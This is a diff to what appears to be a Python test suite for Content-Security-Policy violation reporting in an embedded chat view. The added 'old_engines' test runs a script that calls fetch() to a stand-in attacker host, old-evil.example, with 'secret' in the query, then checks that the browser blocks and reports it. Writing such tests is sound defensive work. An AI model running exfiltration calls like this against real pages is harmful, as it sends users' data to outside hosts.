@@ -2,6 +2,7 @@
 
 from promises import promise
 from promises_policy import INJECTED
+from vendor_stub import OLD, TAMPERED
 
 
 def _told(world, tenant, directive, origin, verb="blocked"):
@@ -10,7 +11,7 @@ def _told(world, tenant, directive, origin, verb="blocked"):
 
 @promise("reports: each part of injected markup is reported and told, with directive and origin", True)
 def injected(world):
-    world.open_tampered("chat", "ios")
+    world.open_at(TAMPERED, "chat", "ios")
     for directive, origin in INJECTED:
         _told(world, "chat talkdesk", directive, origin)
 
@@ -27,3 +28,12 @@ def tried(world):
     view = world.open("chat-tried", "ios")
     view.evaluate("new Image().src = 'https://extra.example/p.svg'; undefined")
     _told(world, "chat-tried talkdesk", "img-src", "https://extra.example", "would block")
+
+
+@promise("reports: engines that know report-uri alone report there")
+def old_engines(world):
+    if world.service is None:
+        return
+    view = world.open_at(OLD, "chat-told", "ios")
+    view.evaluate("fetch('https://old-evil.example/a?secret').catch(() => {}); undefined")
+    _told(world, "chat-told talkdesk", "connect-src", "https://old-evil.example")
